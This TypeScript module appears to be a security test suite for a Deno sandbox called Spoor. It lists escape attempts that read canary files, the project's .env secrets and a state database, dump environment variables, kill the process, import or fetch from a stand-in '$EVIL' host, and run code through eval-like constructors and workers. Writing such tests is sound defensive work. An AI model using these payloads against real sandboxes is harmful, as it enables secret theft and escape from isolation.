/**
 * Attacks on the machine: files, environment, process and network through what a JavaScript
 * runtime offers.
 *
 * @module
 */
import type { Attack } from "../attack.ts";

const FILE = "$VICTIM/canary.txt";

/** A model that leaks what an expression gives. */
function leaking(name: string, expression: string): Attack {
  return {
    name,
    source: `import { leak } from "../_lib/leak.ts";\nawait leak(await (${expression}));`,
  };
}

export const fileAttacks: readonly Attack[] = [
  leaking("reads a file with Deno.readTextFile", `Deno.readTextFile("${FILE}")`),
  leaking("reads a file with Deno.readFileSync", `Deno.readFileSync("${FILE}")`),
  leaking(
    "opens a file with Deno.open",
    `(async () => new Response((await Deno.open("${FILE}")).readable).text())()`,
  ),
  leaking("lists a folder with Deno.readDirSync", `[...Deno.readDirSync("$VICTIM")]`),
  leaking("reads a file by fetch", `fetch("file://${FILE}").then((r) => r.text())`),
  leaking(
    "reads a file by a request",
    `fetch(new Request("file://${FILE}")).then((r) => r.text())`,
  ),
  leaking(
    "reads a file with process.getBuiltinModule",
    `process.getBuiltinModule("node:fs").readFileSync("${FILE}", "utf8")`,
  ),
  leaking("reads a file with require", `require("fs").readFileSync("${FILE}", "utf8")`),
  leaking(
    "reads a file with the process's main module",
    `globalThis.process.mainModule.require("fs").readFileSync("${FILE}", "utf8")`,
  ),
  leaking(
    "reads a file with process.binding",
    `process.binding("fs").internalModuleReadJSON("$VICTIM/canary.json")`,
  ),
  leaking(
    "reads a file through Deno's internals",
    `Deno[Deno.internal].core.ops.op_read_file_text_sync("${FILE}")`,
  ),
  leaking(
    "reads a file through Deno's internal symbol",
    `globalThis.Deno[Symbol.for("Deno.internal")].core.ops.op_fs_read_file_text_sync("${FILE}")`,
  ),
  leaking("reads the secrets file", `Deno.readTextFile("$PROJECT/.env")`),
  leaking("reads the state file", `Deno.readFile("$PROJECT/.spoor/spoor.db")`),
  leaking("writes a file", `Deno.writeTextFile("$VICTIM/$ID", "was here").then(() => "written")`),
  leaking(
    "makes a link to a file in the project",
    `Deno.symlink("${FILE}", "$PROJECT/$ID").then(() => "linked")`,
  ),
  leaking("removes a file", `Deno.remove("${FILE}").then(() => "removed")`),
  leaking(
    "stores something on the disk",
    `(async () => { localStorage.setItem("$ID", "was here"); return localStorage.getItem("$ID"); })()`,
  ),
  leaking(
    "stores something in a cache on the disk",
    `caches.open("$ID").then(async (c) => { await c.put("http://x/", new Response("x")); return "put"; })`,
  ),
  leaking("opens a key-value store", `Deno.openKv("$VICTIM/$ID").then(() => "opened")`),
  leaking(
    "starts a program",
    `new Deno.Command("cat", { args: ["${FILE}"] }).output().then((o) => o.stdout)`,
  ),
  leaking(
    "loads a library",
    `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
  ),
  leaking(
    "asks for a permission",
    `Deno.permissions.request({ name: "read" }).then((p) => p.state === "granted" ? "granted" : undefined)`,
  ),
  leaking(
    "reads the environment with Deno.env",
    `JSON.stringify(Deno.env.toObject())`,
  ),
  leaking("reads a variable with Deno.env.get", `Deno.env.get("SPOOR_TEST_CANARY")`),
  leaking("reads the environment with process.env", `JSON.stringify({ ...process.env })`),
  leaking("reads a variable with process.env", `process.env.SPOOR_TEST_CANARY`),
  {
    name: "reads a variable that it does not list",
    source: `import { env } from "spoor"; import { leak } from "../_lib/leak.ts";
      await leak(env("SPOOR_TEST_CANARY"));`,
    says: /allow_env/,
  },
];

/** What may be tried with `new Function` and its kin, each in place of CODE. */
const EVALUATORS: readonly [name: string, call: string][] = [
  ["eval", `eval("(async () => { CODE })()")`],
  ["an indirect eval", `(0, eval)("(async () => { CODE })()")`],
  ["new Function", `new Function("return (async () => { CODE })()")()`],
  ["a function's constructor", `(() => {}).constructor("return (async () => { CODE })()")()`],
  ["an async function's constructor", `(async () => {}).constructor("CODE")()`],
  [
    "a generator's constructor",
    `(function* () {}).constructor("yield (async () => { CODE })()")().next().value`,
  ],
  [
    "an async generator's constructor",
    `(async function* () {}).constructor("yield await (async () => { CODE })()")().next().then((n) => n.value)`,
  ],
  [
    "a timer with text",
    `new Promise((done) => { globalThis.done = done; setTimeout("(async () => { CODE })().then(done, done)", 1); setTimeout(done, 300); })`,
  ],
  [
    "a class's constructor",
    `Reflect.construct(class {}.constructor, ["return (async () => { CODE })()"])()`,
  ],
];

/** What the made-up code does. */
const MADE_UP: readonly [name: string, code: string][] = [
  ["imports node:fs", `return (await import('node:fs')).readFileSync('${FILE}', 'utf8')`],
  ["imports a module", `return (await import('$VICTIM/canary.js')).default`],
  ["imports a file URL", `return (await import('file://$VICTIM/canary.js')).default`],
  [
    "imports JSON",
    `return (await import('file://$VICTIM/canary.json', { with: { type: 'json' } })).default`,
  ],
  [
    "imports text",
    `return (await import('file://$VICTIM/canary.txt', { with: { type: 'text' } })).default`,
  ],
  ["imports from another host", `await import('$EVIL/$ID'); return 'imported'`],
  ["imports a package", `return (await import('npm:is-odd@3.0.1')).default`],
  [
    "imports a data URL that imports node:fs",
    `return (await import("data:text/javascript,export { readFileSync as default } from 'node:fs'")).default('${FILE}', 'utf8')`,
  ],
  [
    "imports a data URL that imports a file",
    `return (await import("data:text/javascript,export { default } from 'file://$VICTIM/canary.js'")).default`,
  ],
  [
    "imports a blob that imports a file",
    `return (await import(URL.createObjectURL(new Blob(["export { default } from 'file://$VICTIM/canary.js'"], { type: 'text/javascript' })))).default`,
  ],
  ["reads a file", `return Deno.readTextFileSync('${FILE}')`],
  ["fetches from another host", `await fetch('$EVIL/$ID'); return 'fetched'`],
];

function made(evaluator: readonly [string, string], code: readonly [string, string]): Attack {
  const text = JSON.stringify(code[1]).slice(1, -1);
  return leaking(`${code[0]} by ${evaluator[0]}`, evaluator[1].replace("CODE", () => text));
}

/** Every way to make code up with the first purpose, then every purpose by one way. */
export const codeAttacks: readonly Attack[] = [
  ...EVALUATORS.map((evaluator) => made(evaluator, MADE_UP[0] ?? ["", ""])),
  ...MADE_UP.slice(1).map((code) => made(EVALUATORS[4] ?? ["", ""], code)),
  leaking(
    "starts a worker from a data URL",
    `new Promise((done) => {
      const code = "postMessage(Deno.readTextFileSync('${FILE}'))";
      const worker = new Worker("data:text/javascript," + encodeURIComponent(code), { type: "module", deno: { permissions: "inherit" } });
      worker.onmessage = (event) => done(event.data);
      worker.onerror = (event) => { event.preventDefault(); done(undefined); };
      setTimeout(done, 1000);
    })`,
  ),
  leaking(
    "starts a worker that imports a file",
    `new Promise((done) => {
      const code = "import value from 'file://$VICTIM/canary.js'; postMessage(value)";
      const worker = new Worker("data:text/javascript," + encodeURIComponent(code), { type: "module" });
      worker.onmessage = (event) => done(event.data);
      worker.onerror = (event) => { event.preventDefault(); done(undefined); };
      setTimeout(done, 1000);
    })`,
  ),
  leaking(
    "starts a worker from a file",
    `new Promise((done) => {
      const worker = new Worker("file://$VICTIM/worker.js", { type: "module" });
      worker.onmessage = (event) => done(event.data);
      worker.onerror = (event) => { event.preventDefault(); done(undefined); };
      setTimeout(done, 1000);
    })`,
  ),
  {
    name: "searches everything that it can reach",
    source: `import * as spoor from "spoor"; import { leak } from "../_lib/leak.ts";
      const wanted = /^(op_.*|postMessage|Deno|process|require|Worker|eval|fetch|WebSocket|importScripts|createObjectURL|WebAssembly|BroadcastChannel|localStorage|caches)$/;
      const seen = new Set<unknown>(); let found = "";
      const way: [unknown, string][] = [[globalThis, "globalThis"], [spoor, "spoor"], [async () => {}, "async"], [new Error("x"), "error"], [import.meta, "meta"]];
      while (way.length > 0) {
        const [value, path] = way.pop()!;
        if (Object(value) !== value || seen.has(value)) continue;
        seen.add(value);
        if (/^\\[object (MessagePort|MessageChannel|Worker)\\]$/.test(Object.prototype.toString.call(value))) found = path;
        way.push([Object.getPrototypeOf(value), path + ".__proto__"]);
        for (const key of Reflect.ownKeys(value as object)) {
          let inner: unknown;
          try { inner = Reflect.get(value as object, key); } catch { continue; }
          if (wanted.test(String(key)) && typeof inner === "function" && !["spoor", "globalThis.console"].includes(path)) found = path + "." + String(key);
          way.push([inner, path + "." + String(key)]);
        }
      }
      await leak(found);`,
  },
  leaking(
    "gets at Spoor's functions through a stack trace",
    `(() => {
      let found;
      Error.prepareStackTrace = (_, sites) => { found = sites.map((site) => { try { return site.getFunction() ?? site.getThis(); } catch { return undefined; } }); return ""; };
      const look = () => { new Error("x").stack; return 0; };
      [1, 2].sort(look); look();
      const reach = (found ?? []).filter((value) => value && value !== look && value !== globalThis);
      return reach.some((value) => value.Deno || value.core || /native|port|postMessage/.test(String(value))) ? "Spoor's functions" : undefined;
    })()`,
  ),
  leaking(
    "reads a file through a WebAssembly import",
    `(async () => {
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      await WebAssembly.instantiate(bytes);
      return (await WebAssembly.compileStreaming(fetch("file://${FILE}"))) && "compiled";
    })()`,
  ),
];

export const processAttacks: readonly Attack[] = [
  leaking("ends the process with Deno.exit", `Deno.exit(0)`),
  leaking("ends the process with process.exit", `process.exit(0)`),
  leaking("ends the process with process.reallyExit", `process.reallyExit(0)`),
  leaking("aborts the process", `process.abort()`),
  leaking("kills the process with Deno.kill", `Deno.kill(Deno.pid, "SIGKILL")`),
  leaking("kills the process with process.kill", `process.kill(process.pid, "SIGKILL")`),
  { name: "closes its own worker", source: `self.close(); await new Promise(() => {});` },
  { name: "throws null", source: `throw null;` },
  { name: "throws undefined", source: `throw undefined;` },
  {
    name: "throws an error with a message of 200 MB",
    source: `throw new Error("x".repeat(200_000_000));`,
  },
  {
    name: "throws in a timer",
    source:
      `setTimeout(() => { throw new Error("late"); }, 5); await new Promise((done) => setTimeout(done, 200)); throw new Error("still here");`,
  },
  {
    name: "leaves a rejected promise behind",
    source:
      `Promise.reject(new Error("nobody waits")); await new Promise((done) => setTimeout(done, 100)); throw new Error("still here");`,
  },
  {
    name: "reports an error to its worker",
    source: `reportError(new Error("reported")); throw new Error("still here");`,
  },
  {
    name: "ends and leaves a timer running",
    source: `import { save } from "spoor"; await save.row({ id: 1 }); setInterval(() => {}, 10);`,
    ends: "any",
  },
  {
    name: "turns the warnings of the process into an end of it",
    source:
      `globalThis.onunhandledrejection = (e) => { e.preventDefault(); }; Promise.reject(1); throw new Error("end");`,
  },
];

/** What is thrown comes by Deno's own code, which is not ready for everything. */
export const thrownAttacks: readonly Attack[] = [
  {
    name: "throws an object whose parts throw",
    source:
      `throw new Proxy(new Error("x"), { get() { throw new Error("again"); }, getPrototypeOf() { throw new Error("again"); } });`,
  },
  {
    name: "throws an error whose message is a function of traps",
    source: `const e = new Error("x");
      Object.defineProperty(e, "message", { get() { throw e; } });
      Object.defineProperty(e, "stack", { get() { throw e; } });
      Object.defineProperty(e, "name", { get() { throw e; } });
      throw e;`,
  },
  {
    name: "throws an error of a class whose message throws",
    source:
      `class Trap extends Error { override get message(): string { throw this; } override get stack(): string { throw this; } }
      throw new Trap();`,
  },
  {
    name: "rejects with an error whose message throws",
    source: `const e = new Error("x");
      for (const name of ["message", "stack"]) Object.defineProperty(e, name, { get() { throw e; } });
      await Promise.reject(e);`,
  },
  {
    name: "throws an error whose message throws in a timer",
    source: `const e = new Error("x");
      for (const name of ["message", "stack"]) Object.defineProperty(e, name, { get() { throw e; } });
      setTimeout(() => { throw e; }, 1); queueMicrotask(() => { throw e; }); void Promise.reject(e);
      await new Promise((done) => setTimeout(done, 200)); throw new Error("still here");`,
  },
];
